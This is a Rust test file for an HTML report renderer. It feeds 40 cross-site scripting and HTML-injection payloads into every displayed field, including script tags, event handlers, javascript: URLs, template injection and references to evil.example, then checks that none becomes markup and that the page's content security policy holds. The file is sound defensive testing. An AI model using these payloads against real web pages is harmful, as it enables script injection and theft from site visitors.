//! The page shows what it is given and runs none of it.

#[path = "../examples/specimen/data.rs"]
mod data;

use std::collections::{BTreeMap, BTreeSet};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use retold_core::relation::Kind;
use retold_report::{BadRow, Cut, ManifestInput, Page, compare_html, write_page};
use sha2::{Digest as _, Sha256};

/// What strangers write into documents, titles, ids and file names.
const ATTACKS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  java\tscript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`-alert(1)-`",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

fn rendered(page: &Page<'_>) -> String {
    let mut out = Vec::new();
    write_page(page, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// Returns the tags of a page, each with the names of its attributes.
fn tags(html: &str) -> BTreeMap<String, BTreeSet<String>> {
    let mut tags: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for part in html.split('<').skip(1) {
        let (tag, _) = part.split_once('>').expect("every tag is closed");
        let mut outside = String::new();
        for (at, piece) in tag.split('"').enumerate() {
            if at % 2 == 0 {
                outside.push_str(piece);
            }
        }
        let mut words = outside.split_whitespace();
        let name = words.next().expect("every tag has a name").to_owned();
        let attributes = tags.entry(name).or_default();
        attributes.extend(words.map(|word| word.trim_end_matches('=').to_owned()));
    }
    tags
}

/// Puts `attack` wherever a stranger's words are shown.
fn attacked<'a>(mut page: Page<'a>, attack: &str) -> Page<'a> {
    let text = || attack.to_owned();
    page.summary.method = text();
    page.summary.largest = vec![(text(), 3)];
    page.summary.cuts = vec![Cut { what: text(), limit: Some(1), count: 1 }];
    for cluster in &mut page.clusters {
        cluster.representative = text();
        for member in &mut cluster.members {
            member.id = text();
            member.title = Some(text());
            member.source = Some(text());
            member.time = Some(text());
        }
    }
    for pair in
        page.clusters.iter_mut().flat_map(|cluster| &mut cluster.pairs).chain(&mut page.partials)
    {
        for side in [&mut pair.a, &mut pair.b] {
            side.id = text();
            side.title = Some(text());
            side.source = Some(text());
            side.time = Some(text());
            for window in &mut side.windows {
                window.text = format!("{attack} {} {attack}", window.text);
            }
        }
    }
    page
}

#[test]
fn nothing_a_stranger_wrote_becomes_markup() {
    let manifest = data::manifest();
    let harmless = tags(&rendered(&data::page(&manifest)));
    for attack in ATTACKS {
        let mut manifest = data::manifest();
        let text = || attack.to_owned();
        manifest.inputs = vec![ManifestInput { name: text(), kind: text(), ..Default::default() }];
        manifest.bad_records = vec![BadRow { file: text(), reason: text(), ..Default::default() }];
        manifest.settings = serde_json::json!({ attack: attack });
        manifest.approximate = vec![text()];
        let html = rendered(&attacked(data::page(&manifest), attack));
        for (tag, attributes) in tags(&html) {
            let allowed = harmless.get(&tag).unwrap_or_else(|| panic!("<{tag}> from {attack}"));
            assert!(attributes.is_subset(allowed), "<{tag}> has {attributes:?} from {attack}");
        }
    }
}

#[test]
fn a_stranger_is_shown_word_for_word() {
    let manifest = data::manifest();
    let html = rendered(&attacked(data::page(&manifest), "<b>Tom & \"Ann\"</b>"));
    assert!(html.contains("<h4 dir=\"auto\">&lt;b&gt;Tom &amp; &quot;Ann&quot;&lt;/b&gt;</h4>"));
}

#[test]
fn the_policy_allows_the_one_style_sheet_and_nothing_else() {
    let manifest = data::manifest();
    let html = rendered(&data::page(&manifest));
    let (_, rest) = html.split_once("<style>").unwrap();
    let (style, rest) = rest.split_once("</style>").unwrap();
    assert!(!rest.contains("<style") && !rest.contains("style="));
    let hash = STANDARD.encode(Sha256::digest(style.as_bytes()));
    let policy = format!(
        "content=\"default-src 'none'; style-src 'sha256-{hash}'; base-uri 'none'; form-action 'none'\""
    );
    assert!(html.contains(&policy));
    assert!(html.find("Content-Security-Policy") < html.find("<title>"));
}

#[test]
fn the_page_needs_nothing_but_itself() {
    let manifest = data::manifest();
    let html = rendered(&data::page(&manifest));
    for outside in ["http:", "https:", "url(", "@import", "src=", "<script", "<link", "<iframe"] {
        assert!(!html.contains(outside), "{outside}");
    }
}

#[test]
fn every_link_leads_to_a_partner_and_every_name_is_used_once() {
    let manifest = data::manifest();
    let html = rendered(&data::page(&manifest));
    let values = |attribute: &str| -> Vec<String> {
        html.split(&format!(" {attribute}=\""))
            .skip(1)
            .map(|rest| rest.split_once('"').unwrap().0.to_owned())
            .collect()
    };
    let names = values("id");
    let unique: BTreeSet<&String> = names.iter().collect();
    assert_eq!(unique.len(), names.len());
    let links = values("href");
    assert_eq!(links.len(), 12);
    for link in links {
        assert!(names.iter().any(|name| link == format!("#{name}")), "{link}");
    }
}

#[test]
fn differing_words_are_marked_on_both_sides() {
    let manifest = data::manifest();
    let html = rendered(&data::page(&manifest));
    for words in ["found", "discovered", "reporters", "journalists", "kırk", "altmış"] {
        assert!(html.contains(&format!("d m1\">{words}</mark>")), "{words}");
    }
    assert!(!html.contains("track(&#39;open&#39;)") && !html.contains("track('open')"));
}

#[test]
fn a_run_that_found_nothing_has_a_page_too() {
    let manifest = data::manifest();
    let page = Page {
        summary: data::empty_summary(),
        manifest: &manifest,
        clusters: Vec::new(),
        partials: Vec::new(),
    };
    let html = rendered(&page);
    assert!(html.contains("<h1>No document repeats another</h1>"));
    assert!(html.contains("No two documents tell enough of the same"));
    assert!(!html.contains("<figure") && !html.contains("NaN"));
}

#[test]
fn documents_that_stand_in_another_are_told_though_nothing_is_a_copy() {
    let manifest = data::manifest();
    let mut summary = data::empty_summary();
    summary.n_documents = 2;
    summary.pairs_by_kind[Kind::Contained as usize] = 1;
    let page = Page { summary, manifest: &manifest, clusters: Vec::new(), partials: Vec::new() };
    let told = "<h1>No document repeats another, but in 1 pair one stands in the other</h1>";
    assert!(rendered(&page).contains(told));
}

#[test]
fn the_same_run_gives_the_same_page() {
    let manifest = data::manifest();
    assert_eq!(rendered(&data::page(&manifest)), rendered(&data::page(&manifest)));
}

#[test]
fn two_documents_have_a_page_of_their_own() {
    let manifest = data::manifest();
    let page = data::page(&manifest);
    let mut out = Vec::new();
    compare_html(&page.clusters[0].pairs[0], &mut out).unwrap();
    let html = String::from_utf8(out).unwrap();
    assert!(html.contains("<title>Each tells most of the other · Retold</title>"));
    assert!(html.contains("<h4 dir=\"auto\">Bridge shut: what drivers need to know</h4>"));
}
